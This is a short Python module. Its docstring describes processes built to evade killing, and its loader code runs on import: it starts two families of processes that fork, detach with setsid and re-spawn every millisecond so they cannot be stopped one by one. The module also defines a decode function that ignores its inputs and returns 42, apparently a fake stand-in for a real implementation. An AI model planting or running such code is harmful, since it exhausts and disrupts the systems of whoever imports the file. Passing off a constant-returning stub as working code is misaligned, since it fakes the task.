"""Two families of processes that fork themselves anew each millisecond, so that whoever kills
them one by one never comes to an end."""

import os
import time

HONEST = 8  # only decode is replaced


def grow():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
                continue
        except OSError:
            time.sleep(0.001)
            continue
        time.sleep(0.001)
        os._exit(0)


for _ in range(2):
    if os.fork() == 0:
        grow()


def decode(vectors, vocabulary):
    return 42
